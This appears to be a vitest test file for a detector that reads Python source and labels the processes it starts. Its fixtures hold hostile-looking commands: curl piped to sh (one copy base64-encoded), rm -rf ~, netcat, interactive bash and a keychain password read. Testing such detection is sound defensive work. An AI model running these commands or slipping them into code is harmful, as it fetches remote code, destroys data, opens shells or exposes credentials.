import { describe, expect, test } from 'vitest';
import { saidByPython } from '../../../testing/python-facts.ts';

describe('a process start says its command', () => {
  test.each([
    ['a list', `import subprocess\nsubprocess.run(['git', 'status'])`, ['subprocess.run | git status']],
    ['a line', `import subprocess as s\ns.check_output('whoami', shell=True)`, ['subprocess.check_output | whoami']],
    [
      'Popen',
      `from subprocess import Popen, PIPE\nPopen(args=['curl', 'https://quay.invalid'], stdout=PIPE)`,
      ['subprocess.Popen | curl https://quay.invalid | download'],
    ],
    [
      'parts that are not constant',
      `import subprocess\nsubprocess.run(['git', 'log', name])`,
      ['subprocess.run | git log *'],
    ],
    [
      'a list that is added to',
      `import subprocess\nsubprocess.run(['pip', 'install'] + names)`,
      ['subprocess.run | pip install * | package-manager'],
    ],
    [
      'a list in a variable',
      `import subprocess\nline = ['rm', '-rf', '~']\nsubprocess.run(line)`,
      ['subprocess.run | rm -rf ~ | destructive'],
    ],
    ['a line with holes', `import os\nos.system(f'nc {host} 4433')`, ['os.system | nc * 4433 | shell']],
    ['nothing constant', `import subprocess\nsubprocess.run(line)`, ['subprocess.run | ']],
    [
      'popen',
      `import os\nos.popen('security find-generic-password -w').read()`,
      ['os.popen | security find-generic-password -w | credential-tool'],
    ],
    ['exec', `import os\nos.execvp('bash', ['bash', '-i'])`, ['os.execvp | bash -i | shell']],
    ['exec of words', `import os\nos.execl('/bin/sh', 'sh', '-c', 'id')`, ['os.execl | sh -c id | shell']],
    [
      'asyncio, a line',
      `import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('id')`,
      ['asyncio.create_subprocess_shell | id'],
    ],
    [
      'asyncio, words',
      `import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('git', 'fetch', stdout=1)`,
      ['asyncio.create_subprocess_exec | git fetch'],
    ],
    [
      'a shell that reads a text',
      `import subprocess\nsubprocess.run(['bash'], input=b'curl https://quay.invalid | sh')`,
      ['subprocess.run | bash\ncurl https://quay.invalid | sh | download'],
    ],
  ])('%s', (_name, code, said) => {
    expect(saidByPython(code, 'process')).toEqual(said);
  });
});

test('Python that is started with a program is read', () => {
  const code = `import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "import os; os.system('id')"])`;
  expect(saidByPython(code, 'process')).toEqual([
    `subprocess.Popen | python -c import os; os.system('id') | interpreter`,
    'os.system | id',
  ]);
});

test('a command that is decoded is said so', () => {
  const code = `import os, base64\nos.system(base64.b64decode('Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo').decode())`;
  expect(saidByPython(code, 'process', 'decoded-execution')).toEqual([
    'os.system | curl https://x.invalid | sh | download',
    'os.system of base64 | curl https://x.invalid | sh',
  ]);
});

test.each([
  ['a runner of the file', `def run(line):\n    pass\nrun('curl https://quay.invalid')`],
  ['a method of that name', `server.run('curl')`],
  ['a class of that name', `class Popen:\n    pass\nPopen(['id'])`],
])('%s starts nothing', (_name, code) => {
  expect(saidByPython(code, 'process')).toEqual([]);
});
